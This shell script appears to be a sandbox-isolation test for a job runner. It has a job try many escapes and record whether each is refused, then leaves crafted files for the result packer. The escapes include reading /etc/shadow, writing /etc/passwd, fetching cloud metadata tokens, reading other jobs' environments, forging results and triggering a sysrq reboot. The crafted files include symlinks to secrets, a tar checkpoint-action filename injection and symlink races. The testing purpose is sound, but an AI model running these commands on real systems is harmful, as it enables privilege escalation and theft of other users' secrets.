# An ordinary job's attempts to reach what is not its own. Each prints a line: kind, attempt, wall, what came of it.
# DISK, RUNNER, URL, VICTIM, VICTIM_PID and HOST are given by the test beside a victim; elsewhere it finds what it can itself.
: "${DISK:=${HOME%/work/*}}" "${RUNNER:=4194000}" "${VICTIM:=sleep.76543}" "${VICTIM_PID:=4194001}" "${HOST:=/tmp/.X11-unix}"
[ -n "${URL:-}" ] || {
  # The director, by the node's own connections: a port of the kernel's table is four hexadecimal digits, an address eight, backwards.
  set -- $(sed -n 's/^ *[0-9]*: [^ ]* \(..\)\(..\)\(..\)\(..\):\(....\) 0[16] .*/0x\4 0x\3 0x\2 0x\1 0x\5/p' /proc/net/tcp | grep -v '0x0016$' | tail -n 1)
  [ "$#" -lt 5 ] || URL=https://$(printf '%d.%d.%d.%d:%d' "$@")
}
: "${URL:=https://127.0.0.1:1}"
S=$DISK/spillway
: "${KEPT:=$S/inputs}" "${OWN:=$S/inputs}"
mkdir results
try() {
  kind=$1 what=$2 wall=$3
  shift 3
  if said=$( (eval "$*") 2>&1 </dev/null); then said="ESCAPED $said"; else said=refused; fi
  printf '%s|%s|%s|%s\n' "$kind" "$what" "$wall" "$(printf %s "$said" | tr '\n|' '  ' | head -c 100)" >>results/table
}

try files "the node's private key" 'rights of files' 'cat "$S/node.key"'
try files "the node's program with its join token" 'rights of files' 'cat "$S/agent"'
try files "the node's list of jobs" 'rights of files' 'ls "$S/jobs"'
try files "another job's script" 'rights of files' 'cat "$S/jobs/victim.1/script"'
try files "another job's environment, before it has one" 'rights of files' 'cat "$S/jobs/victim.1/command"'
try files "another job's folder" 'rights of files' 'ls "$DISK/work/victim.1"'
try files "a file in another job's folder" 'rights of files' ': >"$DISK/work/victim.1/x"'
try files "the folders of other jobs" 'rights of files' 'ls "$DISK/work"'
try files "the machine's /tmp" 'own mounts' 'ls -d "$HOST"'
try files "another job's /tmp" 'own mounts' 'cat /tmp/victim'
try files "another job's /var/tmp" 'own mounts' 'cat /var/tmp/victim'
try files "another job's /dev/shm" 'own mounts' 'cat /dev/shm/victim'
try files "the machine's passwords" 'rights of files' 'cat /etc/shadow'
try files "a name more in /etc/passwd" 'rights of files' 'echo x >>/etc/passwd'
try files "a program more in the image" 'rights of files' ': >"$SPILLWAY_IMAGE/bin/x"'
try files "the program of all attempts" 'rights of files' 'echo : >>"$S/attempt"'
try files "the node's user data" 'rights of files' 'cat "$DISK/user-data" || cat /var/lib/cloud/instance/user-data.txt'
try files "another job's results while they are packed" 'rights of files' 'cat "$S/jobs/victim.1/bundle"'
try files "an input that the node keeps of another user" 'rights of files' 'cat "$KEPT" || ls "$KEPT"'
try files "an input that the node keeps for its own user's next job" 'rights of files' 'echo x >>"$OWN" || ls "$OWN"'
try files "the ground of its own folder, by the mount's words" 'rights of files' 'below=$(sed -n "s/.*lowerdir=\([^:,]*\).*/\1/p" /proc/self/mountinfo | head -n 1) && [ -n "$below" ] && ls "$DISK/$below"'
try files "what lies below the mount of its folder" 'locked mounts' 'unshare -Urm umount -l "$PWD"'
try files "the other way out of its folder" 'rights of files' 'ls ..'
try processes "another job's words" 'own processes' 'grep -l "$(printf "%s" "$VICTIM" | sed "s/^./[&]/")" /proc/[0-9]*/cmdline'
try processes "another job's environment" 'own processes' 'grep -lz "^SECRET=" /proc/[0-9]*/environ'
try processes "a signal to another job" 'own processes' 'kill -0 "$VICTIM_PID"'
try processes "a signal to its own runner" 'own processes' 'kill -0 "$RUNNER"'
try processes "its runner's memory" 'own processes' 'head -c 1 "/proc/$RUNNER/mem"'
try processes "the machine's files by way of the first process" 'own processes' 'cat "/proc/1/root$HOST"'
try processes "the namespaces of the first process" 'no capabilities' 'nsenter -t 1 -m true'
try processes "another job's shared memory" 'own IPC' 'ipcs -m | grep "^0x"'
try processes "a way out of its groups" 'rights of files' 'for each in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do { echo 0 >"$each"; } 2>/dev/null && exit 0; done; exit 1'
try processes "more memory" 'rights of files' 'for each in $(find /sys/fs/cgroup -path "*spillway*" -name "memory.limit_in_bytes" -o -path "*spillway*" -name memory.max); do { echo 9999999999 >"$each"; } 2>/dev/null && exit 0; done; exit 1'
try processes "root's rights" 'no capabilities' 'setpriv --reuid=0 true'
try processes "another's group" 'no capabilities' 'setpriv --regid=0 --clear-groups true'
try processes "a root of its own" 'no capabilities' 'chroot / true'
try processes "rights of a program that is setuid" 'no new privileges' 'grep "^NoNewPrivs:.0" /proc/self/status'
try processes "to be spared when memory is short" 'no capabilities' 'echo -1000 >/proc/self/oom_score_adj'
try processes "to stop the node's clock" 'no capabilities' 'date -s 2020-01-01'
try processes "the machine's settings" 'rights of files' 'echo 1 >/proc/sys/kernel/sysrq && echo b >/proc/sysrq-trigger'
try devices "a device file of its own" 'no capabilities' 'mknod disk b 254 0'
try devices "the machine's memory" 'own devices' 'ls /dev/mem /dev/kmsg /dev/port'
try devices "the machine's disk" 'own devices' 'for each in /sys/block/*; do [ ! -e "/dev/${each##*/}" ] || exit 0; done; exit 1'
try devices "the GPU of another job" 'own devices' 'cat /dev/nvidia0'
try devices "the terminal of somebody" 'own devices' 'ls /dev/pts | grep "^[0-9]"'
try devices "what lies below its /dev" 'locked mounts' 'unshare -Urm sh -c "umount /dev && ls /dev/kmsg"'
try devices "what lies below its /tmp" 'locked mounts' 'unshare -Urm sh -c "umount /tmp && ls -d $HOST"'
try devices "devices in a namespace of its own" 'the kernel' 'unshare -Urm mount -t devtmpfs d /mnt'
try network "orders, without a certificate" 'TLS of the director' 'curl -gskf --max-time 3 "$URL/v1/orders"'
try network "the directory, without a certificate" 'TLS of the director' 'curl -gskf --max-time 3 "$URL/v1/directory?filter=(uid=*)&attributes=uid"'
try network "packets of its own making" 'no capabilities' 'setpriv -d | grep "^Effective capabilities:.*net_raw"'
try network "the machine's addresses" 'no capabilities' 'ip addr add 192.0.2.1/32 dev lo'
try metadata "the metadata service" 'rule of routing, or none here' 'curl -gsf --noproxy "*" --max-time 2 http://169.254.169.254/'
try metadata "a token of the metadata service" 'rule of routing, or none here' 'curl -gsf --noproxy "*" --max-time 2 -X PUT http://169.254.169.254/latest/api/token'
try metadata "a way around the rule of routing" 'no capabilities' 'ip rule add pref 1 to 169.254.169.254 lookup main'
try jobs "the place of another job's folder" 'rights of files' 'mkdir "$DISK/work/victim.2"'
try jobs "another job's output" 'TLS of the director' 'echo x | curl -gskf --max-time 3 -T - "$URL/v1/jobs/victim/1/log/stdout?from=0"'
try jobs "another job's input" 'TLS of the director' 'curl -gskf --max-time 3 "$URL/v1/jobs/victim/1/input"'
try leases "a lease for its node" 'TLS of the director' 'curl -gskf --max-time 3 --data-binary "spillway-report 2" "$URL/v1/lease"'
try leases "the end of its node" 'rights of files' 'echo over >"$S/end"'
try leases "a longer lease" 'rights of files' 'echo 99999999999 >"$S/lease"'
try leases "a place in the cluster, without a token" 'the director' 'curl -gskf --max-time 3 -H "Authorization: Bearer 0123456789abcdef0123" --data "intent=intent-1&instance=i-1&csr=x" "$URL/v1/join"'
try results "results of another attempt of its own" 'TLS of the director' 'echo x | curl -gskf --max-time 3 -H "X-Sha256: 0" -T - "$URL/v1/jobs/$SPILLWAY_JOB_ID/2/results"'
try results "a result of its own that its node did not pack" 'rights of files' 'echo "7:results" >"$S/jobs/$SPILLWAY_TASK/results" || echo "7:results" >"$S/jobs/$SPILLWAY_JOB_ID.$SPILLWAY_ATTEMPT/results"'
try results "an exit code for another job" 'rights of files' 'echo 0 >"$S/jobs/victim.1/code"'
try results "results of another job" 'TLS of the director' 'echo x | curl -gskf --max-time 3 -H "X-Sha256: 0" -T - "$URL/v1/jobs/victim/1/results"'
try results "a report of another job's end" 'rights of files' 'echo "job victim 1 ENDED 0" >"$S/jobs/victim.1/report"'
# What is packed, is packed with its own rights: the test looks at what comes of these.
ln -s "$S/node.key" results/key
ln -s "$DISK/work/victim.1/secret" results/secret
ln -s /etc/shadow results/shadow
mkfifo results/pipe
: >"results/$(printf 'a\nb')"
: >"results/$(printf '\377\376')"
: >'results/--checkpoint-action=exec=sh evil'
: >results/-rf
mkdir -p results/up && ln -s ../../../.. results/up/up
truncate -s 1T results/bomb
# A folder and a link to another's in turn, for as long as somebody collects.
mkdir mine && echo mine >mine/secret
setsid sh -c 'while :; do ln -sfn "$0" race && ln -sfn ../mine race; done' "$DISK/work/victim.1" >/dev/null 2>&1 </dev/null &
(cd results && exec env -i setsid sh -c 'while :; do ln -sfn "$0/work/victim.1" race; rm -rf race; mkdir race; echo mine >race/secret; rm -rf race; done' "$DISK") >/dev/null 2>&1 </dev/null &
sleep 0.3
rm .spillway/stdout && ln -s "$S/node.key" .spillway/stdout
